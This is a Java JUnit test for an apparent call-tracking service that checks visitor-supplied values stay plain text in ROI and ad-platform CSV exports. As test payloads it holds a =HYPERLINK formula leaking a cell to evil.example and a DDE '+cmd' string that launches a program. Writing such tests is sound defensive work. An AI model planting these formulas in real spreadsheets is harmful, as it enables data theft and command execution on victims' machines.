package io.calltrack.dni.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.calltrack.core.attribution.Attribution;
import io.calltrack.core.calls.CallRecord;
import io.calltrack.core.testing.Await;
import io.calltrack.core.testing.TestNumbers;
import io.calltrack.core.testing.TestRedis;
import io.calltrack.dni.testing.DniClient;
import io.calltrack.dni.testing.DniClient.Reply;
import io.calltrack.dni.testing.DniTestBase;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Visitor-made values (utm keyword, landing page) and the export's own conversionName reach the CSVs
 * as text, never as spreadsheet formulas: real calls through the real call store and rollups, real HTTP.
 */
class CsvInjectionApiTest extends DniTestBase {
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  static final String CMD = "+cmd|' /C calc'!A0";

  @Test
  void roiCsvAndAdPlatformExportsCarryNoFormulas() {
    String property = TestRedis.uniqueId("csvinj");
    assertEquals(200, api.adminPut("/v1/properties/" + property,
        propertyBody(TestNumbers.fresh().e164(), ORIGIN).put("timezone", "UTC")).status());
    CallSeeder seeder = new CallSeeder(vertx);
    Instant start = Instant.parse("2026-03-02T10:00:00Z");
    Attribution evil = new Attribution("google", "cpc", "@SUM(1+1)", HYPERLINK, null, CMD, null,
        "gclid-1", null, null, "@SUM(2+2)", null);
    CallRecord call = seeder.call(property, TestNumbers.fresh(), "+14155550123", start, evil, 30);
    Reply outcome = api.request(HttpMethod.POST, "/v1/calls/" + call.callId() + "/outcome",
        DniClient.body(new JsonObject().put("converted", true).put("value", "12.50").put("currency", "USD")),
        api.admin());
    assertEquals(200, outcome.status(), outcome::toString);

    for (String groupBy : List.of("keyword", "landingPage", "campaign")) {
      Reply csv = Await.until(Duration.ofSeconds(60),
          () -> api.adminGet("/v1/reports/roi?property=" + property + "&from=2026-03-02&to=2026-03-02&format=csv"
              + "&groupBy=" + groupBy),
          r -> r.status() == 200 && r.text().split("\r\n").length >= 3);
      assertNoFormula(csv.text());
    }
    Reply keywords = api.adminGet("/v1/reports/roi?property=" + property
        + "&from=2026-03-02&to=2026-03-02&format=csv&groupBy=keyword");
    assertTrue(keywords.text().contains("\"'" + HYPERLINK.replace("\"", "\"\"") + "\""), keywords.text());

    Reply export = api.adminGet("/v1/exports/google-ads?property=" + property
        + "&from=2026-03-02&to=2026-03-02&conversionName=" + URLEncoder.encode(CMD, StandardCharsets.UTF_8));
    assertEquals(200, export.status(), export::toString);
    assertNoFormula(export.text());
    assertTrue(export.text().contains("\"'" + CMD.replace("\"", "\"\"") + "\"") || export.text().contains("'" + CMD),
        export.text());
    // a plain amount stays a number
    assertTrue(export.text().contains(",12.50,"), export.text());
    // the call log carries the visitor's keyword, landing page and campaign as text too
    Reply log = api.adminGet("/v1/exports/calls?property=" + property + "&from=2026-03-02&to=2026-03-02");
    assertEquals(200, log.status(), log::toString);
    assertNoFormula(log.text());
    assertTrue(log.text().contains("\"'" + HYPERLINK.replace("\"", "\"\"") + "\""), log.text());
    // a click id is the visitor's to write too
    Reply microsoft = api.adminGet("/v1/exports/microsoft-ads?property=" + property
        + "&from=2026-03-02&to=2026-03-02&conversionName=" + URLEncoder.encode(CMD, StandardCharsets.UTF_8));
    assertEquals(200, microsoft.status(), microsoft::toString);
    assertNoFormula(microsoft.text());
    assertTrue(microsoft.text().contains(",12.50,'@SUM(2+2)\r\n"), microsoft.text());
  }

  /** No cell of the CSV starts with a character a spreadsheet reads as a formula (numbers aside). */
  static void assertNoFormula(String csv) {
    for (List<String> row : Csv.read(csv)) {
      for (String cell : row) {
        if (cell.isEmpty() || cell.matches("[+-]?\\d+(\\.\\d+)?")) {
          continue;
        }
        char c = cell.charAt(0);
        assertFalse(c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r',
            "formula-like cell " + cell + " in\n" + csv);
      }
    }
  }
}
